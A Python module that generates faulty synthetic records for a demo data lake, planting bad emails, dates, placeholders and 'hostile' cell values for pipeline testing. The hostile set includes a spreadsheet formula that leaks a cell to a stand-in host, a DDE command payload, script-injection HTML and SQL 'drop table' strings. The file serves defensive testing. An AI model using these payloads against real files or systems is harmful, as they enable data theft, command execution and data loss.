"""Spoilt cells: emptied, badly written, filled with a placeholder, or hostile. Declared, then planted."""

from collections.abc import Callable
from typing import NamedTuple

from xrm_lake.demo.generate.chance import Chance, Texts, texts
from xrm_lake.demo.generate.faults.draft import Draft


class Spoil(NamedTuple):
    """One declaration: this fault, in this column, in this share of the rows."""

    fault: str
    field: str
    share: float


def spoil(chance: Chance, draft: Draft, declared: tuple[Spoil, ...]) -> None:
    """Plant the declared faults, each in cells that are filled and bear no other."""
    for fault, field, share in declared:
        stream = chance.stream(f"{fault} {field}")
        rows = draft.pick(stream, field, share)
        draft.plant(fault, field, rows, SPOILERS[fault](stream, draft.cells[field][rows]))


def _one_of(*values: str) -> Callable[[Chance, Texts], Texts]:
    return lambda chance, old: chance.choose(values, old.size)


def _empty(_: Chance, old: Texts) -> Texts:
    return texts([""] * old.size)


def _bad_email(chance: Chance, old: Texts) -> Texts:
    forms: tuple[Callable[[str], str], ...] = (
        lambda mail: mail.replace("@", "@@"),
        lambda mail: mail.replace("@", "(at)"),
        lambda mail: mail.replace("@", ""),
        lambda mail: mail.replace(".example", ""),
        lambda mail: mail.replace("@", " @"),
        lambda mail: mail.replace(".example", "..example"),
    )
    kinds = chance.whole(0, len(forms), old.size).tolist()
    return texts([forms[kind](mail) for kind, mail in zip(kinds, old, strict=True)])


def _bad_postcode(chance: Chance, old: Texts) -> Texts:
    forms: tuple[Callable[[str], str], ...] = (
        lambda code: code[:2] + "#",
        lambda code: code + "-99999999",
        lambda code: "?" + code[1:],
    )
    kinds = chance.whole(0, len(forms), old.size).tolist()
    return texts([forms[kind](code) for kind, code in zip(kinds, old, strict=True)])


def _product(chance: Chance, old: Texts) -> Texts:
    forms: tuple[Callable[[str], str], ...] = (
        lambda name: name.replace(" ", ""),
        lambda name: name.replace(" ", "-") + "!",
        lambda name: name.upper().replace(" ", "_"),
        lambda name: name[:3] + name[4:],
        lambda name: name.replace("i", "y", 1) if "i" in name else name + "s",
    )
    kinds = chance.whole(0, len(forms), old.size).tolist()
    return texts([forms[kind](name) for kind, name in zip(kinds, old, strict=True)])


def _appended(ending: str) -> Callable[[Chance, Texts], Texts]:
    return lambda _, old: texts([f"{value}{ending}" for value in old])


# U+202E turns the direction of what follows; the Arabic says "the example company".
_RTL = "\u202eشركة المثال\u202c"
_BIDI_NAME = "שלום דוגמה"

SPOILERS: dict[str, Callable[[Chance, Texts], Texts]] = {
    "missing_required": _empty,
    "missing_expected": _empty,
    "bad_email": _bad_email,
    "bad_phone": _one_of("123", "+49 30 12AB", "0000", "call the desk", "1.7E+11", "+999 1 2345"),
    "bad_date": _one_of("31.02.2025", "0000-00-00", "2025-13-45", "yesterday", "spring"),
    "bad_postcode": _bad_postcode,
    "bad_country": _one_of("Deutshcland", "Frnce", "XX", "Nederlnad", "Untied Kingdom", "Europe"),
    "bad_amount": _one_of("12,5k?", "on request", "1.2.3,4", "--"),
    "placeholder": _one_of("N/A", "n/a", "-", "unknown", "TBD", "not specified", "???"),
    "placeholder_other": _one_of("Other"),
    "product_misspelled": _product,
    "hostile_formula": _one_of(
        '=HYPERLINK("https://click.example/?leak="&A1,"open")', "=1+1", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0"
    ),
    "hostile_html": _one_of("<script>alert('hello')</script>", '<img src=x onerror="alert(1)">', "<b>Buyer</b>"),
    "hostile_emoji": _one_of("👩🏽‍🌾🌱 Grower", "🦄🦄🦄", "Ｆｕｌｌ ｗｉｄｔｈ ✔"),
    "hostile_rtl": _one_of(_RTL, _BIDI_NAME),
    "hostile_newline": _appended(',\nsecond line; with "quotes"\tand more'),
    "hostile_long": _appended(" very long" * 800),
    "hostile_sql": _one_of("Robert'); drop table person;--", '"; drop table entity; --'),
}
